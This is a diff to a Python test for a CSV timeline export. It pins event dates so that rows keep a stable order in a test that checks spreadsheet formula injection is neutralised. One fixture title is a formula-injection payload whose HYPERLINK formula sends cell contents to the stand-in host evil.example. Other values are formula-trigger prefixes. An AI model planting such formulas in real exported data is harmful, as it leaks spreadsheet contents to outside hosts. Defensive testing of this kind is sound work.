@@ -269,13 +269,26 @@ class TestTimelineCsv:
 
     def test_neutralises_spreadsheet_formulas(self, client):
         case = CaseFactory()
+        # Dated, so that the rows come in this order: the factory's dates wrap around after
+        # 200 events, and a full run of the suite made the third the earliest.
         EventFactory(
             case=case,
+            date_start=datetime.date(2009, 3, 1),
             title='=HYPERLINK("https://evil.example/?"&A1,"Click")',
             description="+1 more detained",
         )
-        EventFactory(case=case, title="@SUM(A1)", description="-2 released")
-        EventFactory(case=case, title="\tTabbed", description="Plain = text")
+        EventFactory(
+            case=case,
+            date_start=datetime.date(2009, 3, 2),
+            title="@SUM(A1)",
+            description="-2 released",
+        )
+        EventFactory(
+            case=case,
+            date_start=datetime.date(2009, 3, 3),
+            title="\tTabbed",
+            description="Plain = text",
+        )
 
         rows = read_csv(client.get(csv_url(case)))
 
